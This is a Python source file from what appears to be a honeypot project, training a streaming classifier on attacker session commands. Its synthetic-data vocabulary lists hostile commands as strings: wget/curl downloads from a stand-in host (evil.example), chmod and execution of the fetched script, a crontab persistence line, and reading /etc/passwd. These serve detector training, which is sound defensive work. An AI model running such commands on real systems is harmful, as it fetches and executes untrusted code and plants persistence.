@@ -0,0 +1,300 @@
+# src/train_stream.py
+"""Streaming, out-of-core training of a session classifier on command text.
+
+src/ml_prepare.py reads every session into lists and fits a random forest
+on three counters, which stops scaling after a few thousand sessions. This
+pipeline keeps memory bounded however large the store is:
+
+  - iter_chunks() pages through the session store (the manifest of the file
+    layout, or the sessions table with HONEYPOT_STORAGE_BACKEND=sqlite) and
+    yields CHUNK_SIZE samples at a time;
+  - each sample is the session's command text (input lines and shell
+    commands) plus the three runtime features (src/feature_extractor.py);
+  - text is vectorised with a HashingVectorizer (2**N_FEATURES_LOG2 columns,
+    no vocabulary to keep) and an SGDClassifier with log loss is updated with
+    partial_fit, one chunk at a time;
+  - every HOLDOUT-th session (by a hash of its ID, so the split is stable
+    across runs) is held out instead; up to EVAL_MAX of them are kept as
+    sparse rows and scored once training is done.
+
+Labels come from a session's "label" field when it has one of LABELS, else
+from the same bootstrap heuristic ml_prepare.py uses.
+
+Each run writes a versioned artifact directory under <model dir>/text/:
+
+    <version>/model.joblib   vectorizer settings, model, labels
+    <version>/report.json    counts, accuracy, per-class scores, confusion
+                             matrix, training time, peak RSS
+    LATEST                   name of the newest version
+
+    python -m src.train_stream                      # train on the session store
+    python -m src.train_stream --synthetic 1000000  # generated corpus
+
+This model is an offline artifact. The online classifier still runs on the
+forest that ml_prepare.py trains, because at line time it only has the three
+counters. scripts/bench_train_stream.py measures time and memory on a
+synthetic corpus.
+"""
+import argparse
+import hashlib
+import json
+import os
+import random
+import sys
+import time
+import zlib
+from pathlib import Path
+
+import joblib
+import numpy as np
+from scipy import sparse
+from sklearn.feature_extraction.text import HashingVectorizer
+from sklearn.linear_model import SGDClassifier
+from sklearn.metrics import accuracy_score, classification_report, confusion_matrix
+
+from . import sqlite_store
+from .events import EventType, decode_all
+from .feature_extractor import extract_features
+from .session_manager import BASE, find_session_dirs, index_path, load_session, read_index
+
+try:
+    import resource
+except ImportError:  # Windows
+    resource = None
+
+LABELS = ("recon", "bruteforce", "exploit")
+NUMERIC = ("wget", "failed_login", "num_commands")
+CHUNK_SIZE = int(os.environ.get("HONEYPOT_TRAIN_CHUNK", "5000"))
+N_FEATURES_LOG2 = 18
+HOLDOUT = 10
+EVAL_MAX = 50000
+MAX_TEXT = 4096          # characters of command text used per session
+
+
+def heuristic_label(features, text):
+    """Bootstrap label for sessions nobody has labelled (as in ml_prepare.py)."""
+    if features["wget"] == 1 and features["num_commands"] > 2:
+        return "exploit"
+    if "failed" in text.lower():
+        return "bruteforce"
+    return "recon"
+
+
+def session_sample(meta):
+    """(session_id, command text, numeric features, label) for one session meta dict."""
+    events = meta.get("events", [])
+    commands = []
+    for ev in decode_all(events):
+        if ev["type"] == EventType.INPUT:
+            commands.append(str(ev.get("line", "")))
+        elif ev["type"] == EventType.SHELL_CMD:
+            commands.append(str(ev.get("cmd", "")))
+    text = "\n".join(commands)[:MAX_TEXT]
+    features = extract_features(events)
+    label = meta.get("label")
+    if label not in LABELS:
+        label = heuristic_label(features, text)
+    return str(meta.get("session_id", "")), text, [features[k] for k in NUMERIC], label
+
+
+# --- reading the store in chunks -------------------------------------------
+
+def _file_metas(base):
+    base = Path(base or BASE)
+    if not index_path(base).exists():
+        for sdir in find_session_dirs(base):
+            meta = load_session(sdir)
+            # as with the manifest, only finished sessions: close_session stamps end_time
+            if isinstance(meta, dict) and meta.get("end_time"):
+                yield meta
+        return
+    offset = 0
+    while True:
+        records, offset = read_index(base, offset, limit=CHUNK_SIZE)
+        if not records:
+            return
+        for r in records:
+            # the manifest has an open and a closed record per session; train on finished ones
+            if r.get("status") == "closed" and r.get("dir"):
+                meta = load_session(base / r["dir"])
+                meta.setdefault("session_id", r.get("session_id"))
+                yield meta
+
+
+def _sqlite_metas(conn):
+    cur = conn.execute("SELECT session_id FROM sessions WHERE end_ts IS NOT NULL ORDER BY start_ts")
+    while True:
+        rows = cur.fetchmany(CHUNK_SIZE)
+        if not rows:
+            return
+        for (sid,) in rows:
+            meta = sqlite_store.load_session(conn, sid)
+            if meta is not None:
+                yield meta
+
+
+def iter_chunks(metas, chunk_size=CHUNK_SIZE):
+    """Group session metas into lists of chunk_size samples."""
+    chunk = []
+    for meta in metas:
+        if not isinstance(meta, dict):
+            continue
+        chunk.append(session_sample(meta))
+        if len(chunk) >= chunk_size:
+            yield chunk
+            chunk = []
+    if chunk:
+        yield chunk
+
+
+def store_metas(base=None):
+    if sqlite_store.backend() == "sqlite":
+        return _sqlite_metas(sqlite_store.connect())
+    return _file_metas(base)
+
+
+_VOCAB = {
+    "recon": ["uname -a", "cat /proc/cpuinfo", "nmap -sS 10.0.{}.0/24", "ls -la /tmp", "whoami",
+              "cat /etc/passwd", "netstat -an", "ps aux", "id", "free -m"],
+    "bruteforce": ["failed login for root from 203.0.113.{}", "failed password for admin", "whoami",
+                   "su root", "passwd", "failed login for ubuntu", "sudo -l"],
+    "exploit": ["wget http://198.51.100.{}/x.sh", "curl -O http://evil.example/{}.bin", "chmod +x x.sh",
+                "./x.sh", "nohup ./bot &", "crontab -l", "echo '* * * * * /tmp/x' | crontab -"],
+}
+
+
+def synthetic_metas(n, seed=0):
+    """n generated session metas (lazily, one at a time) with ground-truth labels;
+    about 10% borrow commands from another class so the task is not trivial."""
+    rng = random.Random(seed)
+    for i in range(n):
+        label = rng.choice(LABELS)
+        vocab = _VOCAB[label]
+        lines = [rng.choice(vocab).format(rng.randrange(256)) for _ in range(rng.randint(2, 8))]
+        if rng.random() < 0.1:
+            other = _VOCAB[rng.choice(LABELS)]
+            lines.append(rng.choice(other).format(rng.randrange(256)))
+        yield {"session_id": f"SYN-{seed}-{i}", "label": label,
+               "events": [{"ts": 0.0, "type": "input", "line": line} for line in lines]}
+
+
+# --- training -----------------------------------------------------------
+
+def peak_rss_mb():
+    if resource is None:
+        return None
+    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    # kilobytes on Linux, bytes on macOS
+    return round(rss / (1024 * 1024 if sys.platform == "darwin" else 1024), 1)
+
+
+class StreamingTrainer:
+    def __init__(self, n_features_log2=N_FEATURES_LOG2, holdout=HOLDOUT, eval_max=EVAL_MAX, seed=42):
+        self.n_features = 2 ** n_features_log2
+        self.holdout = holdout
+        self.eval_max = eval_max
+        # stateless: nothing grows with the corpus
+        self.vectorizer = HashingVectorizer(n_features=self.n_features, alternate_sign=False,
+                                            token_pattern=r"[^\s]+", ngram_range=(1, 2), norm="l2")
+        self.model = SGDClassifier(loss="log_loss", alpha=1e-6, random_state=seed)
+        self.trained = 0
+        self.chunks = 0
+        self.label_counts = dict.fromkeys(LABELS, 0)
+        self._eval_X = []
+        self._eval_y = []
+        self._eval_rows = 0
+        self.held_out = 0
+
+    def matrix(self, texts, numeric):
+        """Hashed command text next to log-scaled runtime features, one row per session."""
+        text = self.vectorizer.transform(texts)
+        counts = sparse.csr_matrix(np.log1p(np.asarray(numeric, dtype=float)))
+        return sparse.hstack([text, counts], format="csr")
+
+    def _is_holdout(self, sid):
+        return self.holdout and zlib.crc32(sid.encode()) % self.holdout == 0
+
+    def partial_fit(self, chunk):
+        train = [s for s in chunk if not self._is_holdout(s[0])]
+        test = [s for s in chunk if self._is_holdout(s[0])]
+        if train:
+            X = self.matrix([s[1] for s in train], [s[2] for s in train])
+            y = [s[3] for s in train]
+            self.model.partial_fit(X, y, classes=list(LABELS))
+            self.trained += len(train)
+            for label in y:
+                self.label_counts[label] += 1
+        self.held_out += len(test)
+        room = self.eval_max - self._eval_rows
+        if test and room > 0:
+            test = test[:room]
+            self._eval_X.append(self.matrix([s[1] for s in test], [s[2] for s in test]))
+            self._eval_y.extend(s[3] for s in test)
+            self._eval_rows += len(test)
+        self.chunks += 1
+
+    def fit(self, chunks):
+        start = time.perf_counter()
+        for chunk in chunks:
+            self.partial_fit(chunk)
+        self.seconds = time.perf_counter() - start
+        return self
+
+    def evaluate(self):
+        report = {"sessions": self.trained + self.held_out, "trained": self.trained,
+                  "held_out": self.held_out, "evaluated": self._eval_rows, "chunks": self.chunks,
+                  "label_counts": self.label_counts, "seconds": round(getattr(self, "seconds", 0.0), 2),
+                  "peak_rss_mb": peak_rss_mb()}
+        report["sessions_per_sec"] = round(report["sessions"] / report["seconds"]) if report["seconds"] else None
+        if self._eval_rows and self.trained:
+            X = sparse.vstack(self._eval_X, format="csr")
+            pred = self.model.predict(X)
+            report["accuracy"] = round(float(accuracy_score(self._eval_y, pred)), 4)
+            report["per_class"] = classification_report(self._eval_y, pred, labels=list(LABELS),
+                                                        output_dict=True, zero_division=0)
+            report["confusion"] = {"labels": list(LABELS),
+                                   "matrix": confusion_matrix(self._eval_y, pred, labels=list(LABELS)).tolist()}
+        return report
+
+    def save(self, model_dir, report):
+        """Write a new version directory and point LATEST at it; returns its path."""
+        digest = hashlib.sha256(self.model.coef_.tobytes()).hexdigest()[:8]
+        version = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime()) + "-" + digest
+        out = Path(model_dir) / "text" / version
+        out.mkdir(parents=True, exist_ok=True)
+        joblib.dump({"version": version, "labels": list(LABELS), "numeric": list(NUMERIC),
+                     "vectorizer": self.vectorizer.get_params(), "model": self.model}, out / "model.joblib")
+        report = dict(report, version=version)
+        with open(out / "report.json", "w", encoding="utf-8") as f:
+            json.dump(report, f, indent=2)
+        latest = out.parent / "LATEST"
+        tmp = latest.with_name("LATEST.tmp")
+        tmp.write_text(version + "\n", encoding="utf-8")
+        os.replace(tmp, latest)
+        return out
+
+
+def main(argv=None):
+    from .model import MODEL_DIR
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--sessions-dir", default=None, help="file-layout session store (default data/sessions)")
+    ap.add_argument("--synthetic", type=int, default=0, help="train on N generated sessions instead")
+    ap.add_argument("--chunk-size", type=int, default=CHUNK_SIZE)
+    ap.add_argument("--out", default=str(MODEL_DIR), help="model directory (artifacts go to <out>/text/)")
+    args = ap.parse_args(argv)
+
+    metas = synthetic_metas(args.synthetic) if args.synthetic else store_metas(args.sessions_dir)
+    trainer = StreamingTrainer().fit(iter_chunks(metas, args.chunk_size))
+    report = trainer.evaluate()
+    if not trainer.trained:
+        print("No sessions to train on")
+        return 1
+    out = trainer.save(args.out, report)
+    print(json.dumps({k: report.get(k) for k in ("sessions", "trained", "evaluated", "accuracy",
+                                                 "seconds", "sessions_per_sec", "peak_rss_mb")}))
+    print("Saved", out)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())